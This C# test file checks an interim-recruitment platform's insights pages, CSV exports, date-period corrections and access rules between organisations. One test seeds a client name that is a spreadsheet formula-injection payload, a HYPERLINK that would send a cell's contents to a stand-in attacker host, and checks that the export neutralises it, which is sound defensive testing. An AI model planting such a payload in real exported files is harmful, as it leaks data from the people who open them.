using System.Globalization;
using System.Net;
using System.Text.RegularExpressions;
using CsvHelper;
using InterimExchange.Accounts.Contracts;
using InterimExchange.Briefs.Contracts;
using InterimExchange.Briefs.Contracts.IntegrationEvents;
using InterimExchange.Insights.Contracts;
using InterimExchange.Proposals.Contracts;
using InterimExchange.Proposals.Contracts.IntegrationEvents;
using InterimExchange.Routing.Contracts;
using InterimExchange.Routing.Contracts.IntegrationEvents;
using InterimExchange.Testing;
using MassTransit;
using Microsoft.Extensions.DependencyInjection;

namespace InterimExchange.Insights.Tests;

/// <summary>
/// An RPO's insights over a seeded history whose figures are worked out here: the page with its charts and tables, each table as
/// CSV parsed back, the period corrected with a message, and nobody seeing another RPO's figures or the platform naming clients.
/// </summary>
public sealed class InsightsPagesTests(PortalFactory app) : IClassFixture<PortalFactory>
{
    private const string Period = "from=2026-09-01&to=2026-11-02";
    private const string ClientName = "Lindenhof Chemicals";

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    private static DateTime On(int month, int day) => new(2026, month, day, 10, 0, 0, DateTimeKind.Utc);

    private Task PublishAsync<T>(T message) where T : class => app.WithAsync(async sp =>
    {
        await sp.GetRequiredService<IBus>().Publish(message, Cancel);
        return true;
    });

    /// <summary>
    /// A new RPO with a coordinator and a client, and its history: brief 1 created 1 September, first proposal after 10 days, interim
    /// started after 30 days, two criteria reviewed in October (met, partly met); brief 2 created 15 September, first proposal after 4
    /// days; brief 3 created 10 October, never confirmed. Both confirmed briefs went to one firm and to the RPO's own sourcing team;
    /// the firm proposed on brief 1 and was engaged, the team proposed on brief 2. Two outcomes promised by 25 October, given on the
    /// 24th and the 28th; one decision promised by 15 October still open.
    /// </summary>
    private async Task<(Guid Rpo, HttpClient Coordinator)> SeedAsync(string clientName = ClientName)
    {
        var email = $"lee.{Guid.NewGuid():N}@lakeside.example";
        var rpo = await app.WithAsync(async sp =>
        {
            var accounts = sp.GetRequiredService<IAccounts>();
            var id = (await accounts.SendAsync(new CreateOrganisationCommand("Lakeside Talent", OrganisationKind.RpoProvider), Cancel)).Id!.Value;
            (await accounts.SendAsync(new RegisterInvitedCommand(id, email, "Lee Lake", "Lakeside2027x", SignIn: false), Cancel))
                .Succeeded.ShouldBeTrue();
            (await sp.GetRequiredService<IBriefs>().SendAsync(new AddClientCompanyCommand(Callers.Rpo(id), clientName, "pharma"), Cancel)).Succeeded.ShouldBeTrue();
            return id;
        });
        var client = (await app.WithAsync(sp => sp.GetRequiredService<IBriefs>().AskAsync(new ClientCompaniesQuery(rpo), Cancel))).Single().Id;
        var firm = Guid.NewGuid();
        var (b1, b2, b3) = (Guid.NewGuid(), Guid.NewGuid(), Guid.NewGuid());

        foreach (var (brief, created) in new[] { (b1, On(9, 1)), (b2, On(9, 15)), (b3, On(10, 10)) })
        {
            await PublishAsync(new BriefCreated(brief, rpo, "Interim Role", created));
        }

        foreach (var brief in new[] { b1, b2 })
        {
            await PublishAsync(new BriefConfirmed(brief, rpo, "Interim Role", new RoutingFacts(client, "pharma", "quality", "executive", "dach", false), [], On(9, 16)));
            foreach (var (to, channel) in new[] { (firm, RoutingChannel.SpecialistFirm), (rpo, RoutingChannel.SourcingTeam) })
            {
                await PublishAsync(new BriefRoutedToFirm(brief, to, "A firm", channel, rpo, "Interim Role", 1, "", [], new DateOnly(2026, 9, 20), new DateOnly(2026, 9, 30),
                    On(9, 17), Guid.NewGuid(), "Lee Lake"));
            }
        }

        await PublishAsync(new ProposalSubmitted(Guid.NewGuid(), b1, firm, "A firm", rpo, 1, On(9, 11)));
        await PublishAsync(new ProposalSubmitted(Guid.NewGuid(), b2, rpo, "Lakeside sourcing team", rpo, 1, On(9, 19)));
        var engagement = Guid.NewGuid();
        await PublishAsync(new EngagementStarted(engagement, b1, rpo, firm, "A firm", "Candidate", new DateOnly(2026, 10, 1), [], "Lee Lake", On(9, 25)));
        await PublishAsync(new CriterionReviewed(engagement, b1, rpo, firm, "Interim Role", "Candidate", 1, "An outcome", CriterionRating.Met, "Done", "Lee", On(10, 20)));
        await PublishAsync(new CriterionReviewed(engagement, b1, rpo, firm, "Interim Role", "Candidate", 2, "An outcome", CriterionRating.PartlyMet, "Half", "Lee", On(10, 20)));
        foreach (var given in new[] { On(10, 24), On(10, 28) })
        {
            await PublishAsync(new OutcomeGiven(Guid.NewGuid(), b2, rpo, firm, RoutingChannel.SpecialistFirm, "Interim Role", "proposal", Outcome.NotProgressed, "Thank you",
                true, new DateOnly(2026, 10, 25), given));
        }

        await PublishAsync(new DecisionReminderDue(Guid.NewGuid(), b2, rpo, Guid.NewGuid(), "Interim Role", rpo, "Lakeside sourcing team", "proposal", new DateOnly(2026, 10, 15),
            1, On(10, 16)));

        await TestServices.Eventually(async () => await app.WithAsync(async sp =>
        {
            var report = await sp.GetRequiredService<IInsights>().AskAsync(new ReportQuery(Callers.Rpo(rpo), new InsightsPeriod(new DateOnly(2026, 9, 1), new DateOnly(2026, 11, 2))), Cancel);
            return report is { BriefsCreated: 3, TimeToEngage.Count: 1, TimeToFirstProposal.Count: 2, HitOnTarget.Base: 2, KeptDates.Base: 2, PastDateNow: 1 }
                && report.Channels.Sum(c => c.Briefs) == 4 && report.Clients.Count == 2;
        }), TimeSpan.FromSeconds(30), "the seeded history in the insights");
        return (rpo, await app.SignedInAsync(email, "Lakeside2027x"));
    }

    private static async Task<List<Dictionary<string, string>>> CsvAsync(HttpClient client, string path)
    {
        var response = await client.GetAsync(path, Cancel);
        response.StatusCode.ShouldBe(HttpStatusCode.OK, path);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        var bytes = await response.Content.ReadAsByteArrayAsync(Cancel);
        bytes[..3].ShouldBe(new byte[] { 0xEF, 0xBB, 0xBF }, "a byte-order mark, so that Excel reads UTF-8");
        using var csv = new CsvReader(new StringReader(System.Text.Encoding.UTF8.GetString(bytes[3..])), CultureInfo.InvariantCulture);
        await csv.ReadAsync();
        csv.ReadHeader();
        var rows = new List<Dictionary<string, string>>();
        while (await csv.ReadAsync())
        {
            rows.Add(csv.HeaderRecord!.ToDictionary(h => h, h => csv.GetField(h)!));
        }

        return rows;
    }

    [Fact]
    public async Task A_client_named_like_a_spreadsheet_formula_is_downloaded_as_text_that_a_spreadsheet_does_not_run()
    {
        const string formula = "=HYPERLINK(\"https://attacker.example/?leak=\"&A1,\"Open the report\")";
        var (_, lee) = await SeedAsync(formula);

        var clients = await CsvAsync(lee, $"/rpo/insights?handler=Csv&table=clients&{Period}");
        clients[0]["Name"].ShouldBe("'" + formula, "written after an apostrophe, so that it is text");
        foreach (var table in new[] { "months", "channels", "clients", "sectors" })
        {
            foreach (var cell in (await CsvAsync(lee, $"/rpo/insights?handler=Csv&table={table}&{Period}")).SelectMany(row => row.Values))
            {
                "=+-@\t\r".ShouldNotContain(cell.FirstOrDefault(' '), $"a cell of {table} starts a formula: {cell}");
            }
        }
    }

    [Fact]
    public async Task A_coordinator_reads_the_figures_as_charts_and_tables_and_downloads_each_table_as_CSV()
    {
        var (_, lee) = await SeedAsync();

        var page = WebUtility.HtmlDecode(await lee.GetStringAsync($"/rpo/insights?{Period}", Cancel));
        page.ShouldContain("<svg");
        page.ShouldContain("id=\"chart-time-to-engage\"");
        page.ShouldContain("id=\"chart-ghosting\"");
        page.ShouldContain("median 30 days over 1 brief");
        page.ShouldContain("median 4 days over 2 briefs");
        page.ShouldContain("1½ of 2");
        page.ShouldContain(ClientName);

        var months = await CsvAsync(lee, $"/rpo/insights?handler=Csv&table=months&{Period}");
        months.Select(m => m["Month"]).ShouldBe(["2026-09-01", "2026-10-01", "2026-11-01"]);
        var (september, october, november) = (months[0], months[1], months[2]);
        september["Briefs created"].ShouldBe("2");
        september["Briefs with a first proposal"].ShouldBe("2");
        september["Median days to first proposal"].ShouldBe("4");
        october["Briefs created"].ShouldBe("1");
        october["Briefs engaged"].ShouldBe("1");
        october["Median days to engage"].ShouldBe("30");
        october["Criteria reviewed"].ShouldBe("2");
        october["Criteria met (partly met counts half)"].ShouldBe("1.5");
        october["Hit on target %"].ShouldBe("75.0");
        october["Outcomes given"].ShouldBe("2");
        october["Outcomes by the promised date"].ShouldBe("1");
        october["Past their date at month end"].ShouldBe("1");
        september["Past their date at month end"].ShouldBe("0");
        november["Past their date at month end"].ShouldBe("1");

        var channels = await CsvAsync(lee, $"/rpo/insights?handler=Csv&table=channels&{Period}");
        channels.Select(c => (c["Name"], c["Briefs"], c["Proposals"], c["Engaged"], c["Criteria reviewed"]))
            .ShouldBe([("Specialist firms", "2", "1", "1", "2"), ("Own sourcing team", "2", "1", "0", "0")]);
        var clients = await CsvAsync(lee, $"/rpo/insights?handler=Csv&table=clients&{Period}");
        // Brief 3 was never confirmed: it has no client or sector yet, and a row says so, so that each table adds up to the 3 briefs.
        clients.Select(c => (c["Name"], c["Briefs"])).ShouldBe([(ClientName, "2"), ("Client not named yet", "1")]);
        clients[0]["Median days to engage"].ShouldBe("30");
        var sectors = await CsvAsync(lee, $"/rpo/insights?handler=Csv&table=sectors&{Period}");
        sectors.Select(c => (c["Name"], c["Briefs"])).ShouldBe([("Pharma and life sciences", "2"), ("Sector not given yet", "1")]);
        (await lee.GetAsync($"/rpo/insights?handler=Csv&table=nonsense&{Period}", Cancel)).StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task The_month_table_lists_the_months_in_which_something_happened_and_says_which_it_leaves_out()
    {
        var (_, lee) = await SeedAsync();
        const string longer = "from=2026-05-01&to=2026-11-02";

        var page = WebUtility.HtmlDecode(await lee.GetStringAsync($"/rpo/insights?{longer}", Cancel));
        var table = page[page.IndexOf("id=\"table-months\"", StringComparison.Ordinal)..];
        table = table[..table.IndexOf("</table>", StringComparison.Ordinal)];
        Regex.Matches(table, "<tr>").Count.ShouldBe(1 + 3, "a header and September, October and November");
        table.ShouldNotContain("May 2026");
        page.ShouldContain("4 months with nothing to count are not listed: May 2026, Jun 2026, Jul 2026, Aug 2026. The CSV has every month.");
        (await CsvAsync(lee, $"/rpo/insights?handler=Csv&table=months&{longer}")).Count.ShouldBe(7);
    }

    [Fact]
    public async Task Nobody_reads_another_RPO_s_figures_and_the_platform_names_no_client()
    {
        await SeedAsync();
        var amelia = await app.SignedInAsync("amelia.hart@northbridge.example");
        (await amelia.GetStringAsync($"/rpo/insights?{Period}", Cancel)).ShouldNotContain(ClientName);
        (await CsvAsync(amelia, $"/rpo/insights?handler=Csv&table=clients&{Period}")).ShouldNotContain(row => row["Name"] == ClientName);
        (await amelia.GetAsync("/admin/insights", Cancel)).ShouldBeRefused();

        var maria = await app.SignedInAsync("maria.santos@meridianquality.example");
        (await maria.GetAsync("/rpo/insights", Cancel)).ShouldBeRefused();
        (await maria.GetAsync("/admin/insights", Cancel)).ShouldBeRefused();

        // The vetting officer sees every RPO's briefs together, by sector, and no client by name.
        var olivia = await app.SignedInAsync("olivia.grant@interimexchange.example");
        var platform = await olivia.GetStringAsync($"/admin/insights?{Period}", Cancel);
        platform.ShouldNotContain(ClientName);
        platform.ShouldNotContain("Valdora");
        platform.ShouldContain("clients are not named");
        (await olivia.GetAsync($"/admin/insights?handler=Csv&table=clients&{Period}", Cancel)).StatusCode.ShouldBe(HttpStatusCode.NotFound);
        // The demo data's facts arrive through the outbox after start-up: the report and the CSV are read once all have arrived.
        await app.QuietAsync();
        var period = new InsightsPeriod(new DateOnly(2026, 9, 1), new DateOnly(2026, 11, 2));
        var northbridge = await app.WithAsync(sp => sp.GetRequiredService<IInsights>().AskAsync(new ReportQuery(Callers.Rpo(DemoAccounts.Northbridge.Id), period), Cancel));
        var everyone = await app.WithAsync(sp => sp.GetRequiredService<IInsights>().AskAsync(new ReportQuery(new Caller(DemoAccounts.Platform.Id, DemoAccounts.Platform.Name, OrganisationKind.Platform, Guid.Empty, "Vetting officer", false), period), Cancel));
        var platformMonths = await CsvAsync(olivia, $"/admin/insights?handler=Csv&table=months&{Period}");
        platformMonths.Sum(m => int.Parse(m["Briefs created"], CultureInfo.InvariantCulture)).ShouldBe(everyone.BriefsCreated);
        // The other tests of the class seed RPOs of their own, so the platform's count is held against the two RPOs this test knows.
        northbridge.BriefsCreated.ShouldBeGreaterThan(0);
        everyone.BriefsCreated.ShouldBeGreaterThanOrEqualTo(northbridge.BriefsCreated + 3, "the demo RPO's briefs count on the platform too, beside this test's RPO's three");
    }

    [Theory]
    [InlineData("from=2026-11-01&to=2026-09-01", "The start was after the end: the two dates were swapped.")]
    [InlineData("from=banana&to=2026-10-01", "The start \"banana\" is not a date: the default is used instead.")]
    [InlineData("from=2026-09-01&to=2027-05-01", "The period cannot end after today: it now ends today, 2 November 2026.")]
    [InlineData("from=2001-01-01&to=2026-11-01", "Insights cover at most 5 years: the period now starts on 1 November 2021.")]
    [InlineData("from=9999-12-31&to=9999-12-31", "The period held no day between 2000 and today: the last twelve months are shown.")]
    [InlineData("from=0001-01-01&to=0001-01-02", "The period held no day between 2000 and today: the last twelve months are shown.")]
    public async Task A_period_that_makes_no_sense_is_corrected_with_a_message(string query, string message)
    {
        var amelia = await app.SignedInAsync("amelia.hart@northbridge.example");
        var response = await amelia.GetAsync($"/rpo/insights?{query}", Cancel);
        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        System.Net.WebUtility.HtmlDecode(await response.Content.ReadAsStringAsync(Cancel)).ShouldContain(message);
    }
}
